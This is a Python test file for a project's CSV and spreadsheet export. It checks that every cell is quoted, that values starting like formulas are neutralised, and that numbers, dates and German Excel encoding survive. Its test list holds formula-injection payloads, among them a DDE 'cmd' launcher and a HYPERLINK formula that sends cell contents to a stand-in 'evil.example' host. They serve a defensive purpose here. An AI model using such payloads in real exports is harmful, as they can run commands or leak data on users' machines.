"""What leaves as CSV: every cell quoted, none of them a formula, read back as it was."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from board import csv as board_csv

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\ufeff=1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1)', "＝1+1", "＋1", "－1", "＠x",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_taken_for_a_formula(formula: str) -> None:
    for written, delimiter in ((board_csv.table, ","), (board_csv.spreadsheet, ";")):
        text = written([formula], [[formula], [f"text {formula}"]]).removeprefix("\ufeff")
        header, cell, harmless = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        assert header == cell == ["'" + formula]
        assert harmless == [f"text {formula}"]


def test_numbers_and_days_stay_what_they_are() -> None:
    moment = datetime(2026, 3, 29, 0, 30, tzinfo=UTC)
    row = [-3, -2.5, Decimal("-0.75"), date(2026, 3, 1), moment, None, 'Bürgerbüro; "Mitte"\nzweite Zeile']
    assert board_csv.table(["a"], [row]) == (
        '"a"\r\n"-3","-2.5","-0.75","2026-03-01","2026-03-29T00:30:00Z","","Bürgerbüro; ""Mitte""\nzweite Zeile"\r\n'
    )


def test_a_spreadsheet_opens_in_german_excel() -> None:
    written = board_csv.spreadsheet(["Titel", "PT"], [["Mängelmelder", 5]])
    assert written.encode() == b'\xef\xbb\xbf"Titel";"PT"\r\n"M\xc3\xa4ngelmelder";"5"\r\n'


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2), max_size=5))
def test_whatever_people_write_comes_back_and_computes_nothing(rows: list[list[str]]) -> None:
    text = board_csv.table(["a", "b"], rows)
    _header, *read = csv.reader(io.StringIO(text, newline=""))
    assert [[cell.removeprefix("'") for cell in row] for row in read] == [
        [cell.removeprefix("'") for cell in row] for row in rows
    ]
    assert not any(cell.lstrip()[:1] in tuple("=+-@") for row in read for cell in row)
